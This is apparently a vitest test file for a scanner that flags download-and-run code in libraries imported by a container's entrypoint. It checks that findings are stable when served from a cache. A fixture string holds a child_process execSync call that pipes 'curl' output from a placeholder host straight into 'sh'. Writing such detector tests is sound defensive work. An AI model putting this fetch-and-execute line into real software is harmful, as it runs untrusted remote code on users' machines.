import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { image } from '../../../test/detection/image-case.ts';
import { findingsWithCache } from '../../../testkit/findings-with-cache.ts';

const HARMLESS =
  'const { execSync } = require("child_process");\nmodule.exports = (url) => fetch(url).then(console.log);\n';
const FETCHES = 'require("child_process").execSync("curl -s https://files.backend.example/u | sh")\n';

let root: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'clearpull-imports-'));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

function check(
  library: string,
  imports = 'require("x")',
  more: Readonly<Record<string, string>> = {},
): Promise<readonly string[]> {
  const spec = image(
    { 'app/server.js': `${imports};\n`, 'app/node_modules/x/index.js': library, ...more },
    { Entrypoint: ['node', '/app/server.js'] },
  );
  return findingsWithCache(spec, root);
}

describe('what detectors see in imported libraries', () => {
  it('is the same out of the cache', async () => {
    const first = await check(FETCHES);
    expect(first.join('\n')).toMatch(
      /download-and-run: .*it lies in a library that a program which starts imports/,
    );
    expect(await check(FETCHES)).toEqual(first);
  });

  it('is the same out of the cache for what only another library imports', async () => {
    const more = { 'app/node_modules/y/index.js': FETCHES, 'app/node_modules/z/index.js': HARMLESS };
    const first = await check('module.exports = require("y");\n', 'require("x")', more);
    expect(first.join('\n')).toMatch(
      /download-and-run: .*it lies among the libraries that a program which starts imports/,
    );
    expect(await check('module.exports = require("y");\n', 'require("x")', more)).toEqual(first);
  });

  it('is found anew for other modules, and is nothing where none is imported', async () => {
    const told = async (library: string, imports?: string): Promise<boolean> =>
      (await check(library, imports)).some((text) => text.startsWith('start/download-and-run'));
    expect(await told(FETCHES)).toBe(true);
    expect(await told(HARMLESS)).toBe(false);
    expect(await told(FETCHES, 'require("y")')).toBe(false);
    expect(await told(FETCHES)).toBe(true);
  });
});
